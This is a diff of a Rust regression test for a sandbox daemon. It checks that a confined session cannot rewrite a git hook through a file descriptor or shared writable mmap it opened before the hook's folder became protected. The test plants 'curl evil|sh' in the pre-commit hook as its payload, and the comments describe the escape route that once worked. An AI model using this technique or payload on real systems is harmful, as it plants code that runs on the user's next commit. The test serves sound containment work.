@@ -8443,9 +8443,10 @@ fn writes_hooks_a_worktrees_gitfile_names_after_the_user_rewrites_it_in_place() 
     assert!(open.is_empty(), "hooks named after the user rewrote the worktree's .git file, written (heard: {heard}): {open:?}");
 }
 
-/// Rewrites a hook through a descriptor it opened before the user named the hook's folder:
-/// the session opens `~/x/hooks/pre-commit` for writing while the folder is an ordinary
-/// granted one, keeps the descriptor, and the user then runs `git config --global
+/// Rewrites a hook through a descriptor it opened before the user named the hook's folder,
+/// and through a shared writable mapping it made then: the session opens
+/// `~/x/hooks/pre-commit` for writing (and another of its processes maps it) while the
+/// folder is an ordinary granted one, keeps the descriptor, and the user then runs `git config --global
 /// core.hooksPath ~/x/hooks`; once the daemon has read the change (a fresh open is
 /// refused), the session writes through its old descriptor, and git runs that at the
 /// user's next commit. Principle: what a never place names as code is never changed by a
@@ -8455,10 +8456,12 @@ fn writes_hooks_a_worktrees_gitfile_names_after_the_user_rewrites_it_in_place() 
 /// already open (`file_permission` is not attached), so a descriptor opened inside the
 /// window keeps it open for as long as the session holds it. Controls: the session opens
 /// the hook before the change; after the rereading a fresh open is refused.
-/// Gets out on 6.1 and 6.12: the fresh open was refused, and the write through the early
+/// Got out on 6.1 and 6.12: the fresh open was refused, and the write through the early
 /// descriptor returned 0 (the hook holds `curl evil|sh`).
+/// Closed: once the new places are in the kernel, the daemon ends the session's processes
+/// that hold a descriptor open for writing (or a shared writable mapping) there, with the
+/// session's cgroup frozen while it looks (`daemon::revoke`, audited as `writer_ended`).
 #[test]
-#[ignore = "open route: a descriptor opened for writing before its folder became a code place keeps writing; revoking it needs a check on every write (file_permission), which every process on the host would pay"]
 fn rewrites_a_hook_through_a_descriptor_opened_before_the_user_named_its_folder() {
     let mut c = Cleanup::default();
     let top = home_folder(&mut c, "earlyfd");
@@ -8499,6 +8502,42 @@ fn rewrites_a_hook_through_a_descriptor_opened_before_the_user_named_its_folder(
         },
     );
     assert!(fd >= 0, "control: the session opens the hook while its folder is an ordinary one: errno {}", -fd);
+    // A second process of the session maps the hook shared and writable, and closes its
+    // descriptor: the mapping writes the file as well.
+    static MAPPED: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
+    let (_mapper, mapped) = pincer_tests::HeldProcess::start(
+        Some(&red.cg),
+        UID,
+        // SAFETY: open/mmap/close on a valid C string; the mapping is kept.
+        || unsafe {
+            let fd = libc::open(hook.as_ptr(), libc::O_RDWR);
+            if fd < 0 {
+                return -errno();
+            }
+            let p = libc::mmap(std::ptr::null_mut(), 4096, libc::PROT_READ | libc::PROT_WRITE, libc::MAP_SHARED, fd, 0);
+            let e = errno();
+            libc::close(fd);
+            if p == libc::MAP_FAILED {
+                return -e;
+            }
+            MAPPED.store(p as usize, std::sync::atomic::Ordering::SeqCst);
+            0
+        },
+        // SAFETY: read/write of inherited pipes and of the kept mapping (the hook's 10
+        // bytes, overwritten with as many).
+        move |_| unsafe {
+            let mut b = 0u8;
+            libc::read(go_r, (&mut b as *mut u8).cast(), 1);
+            let p = MAPPED.load(std::sync::atomic::Ordering::SeqCst) as *mut u8;
+            std::ptr::copy_nonoverlapping(b"curl evil\n".as_ptr(), p, 10);
+            let r = rc(libc::msync(p.cast(), 4096, libc::MS_SYNC) as i64);
+            libc::write(res_w, (&r as *const i32).cast(), 4);
+        },
+    );
+    assert_eq!(mapped, 0, "control: the session maps the hook shared and writable while its folder is an ordinary one");
+    // Only the holders write the results: holders that are gone read as the end of them.
+    // SAFETY: close of the test's copy of the pipe's write end.
+    unsafe { libc::close(res_w) };
     // The user, outside the session: `git config --global core.hooksPath` (a lock file
     // renamed over the file).
     let before = red.rereads();
@@ -8509,18 +8548,22 @@ fn rewrites_a_hook_through_a_descriptor_opened_before_the_user_named_its_folder(
     red.wait_rereads_settled();
     let fresh = red.gated(|| vec![append(&hooks.join("pre-commit"), "curl evil|sh\n")]);
     assert!(refused(fresh[0]), "control: a fresh open of the hook after the rereading is refused: {fresh:?}");
-    let mut got = -1i32;
+    let mut got = Vec::new();
     // SAFETY: write/read of our pipes with local buffers.
     unsafe {
-        libc::write(go[1], b"g".as_ptr().cast(), 1);
-        libc::read(res[0], (&mut got as *mut i32).cast(), 4);
-        for f in [go[0], go[1], res[0], res[1]] {
+        libc::write(go[1], b"gg".as_ptr().cast(), 2);
+        let mut r = 0i32;
+        while got.len() < 2 && libc::read(res[0], (&mut r as *mut i32).cast(), 4) == 4 {
+            got.push(r);
+        }
+        for f in [go[0], go[1], res[0]] {
             libc::close(f);
         }
     }
     let text = std::fs::read_to_string(hooks.join("pre-commit")).unwrap_or_default();
-    note(&format!("earlyfd: write through the early descriptor: {got}; the hook now holds {text:?}"));
-    assert!(refused(got) || !text.contains("curl"), "the hook the user's configuration now names, rewritten through a descriptor opened before: {got}");
+    let ended = audit_lines_with(&red, "\"writer_ended\"");
+    note(&format!("earlyfd: writes through the early descriptor and mapping: {got:?} (none: their holders were ended; {ended} writer_ended entries); the hook now holds {text:?}"));
+    assert!(!text.contains("curl"), "the hook the user's configuration now names, rewritten through a descriptor or a mapping made before: {got:?}");
 }
 
 /// How many inotify watches process `pid` holds (the `inotify wd:` lines of its
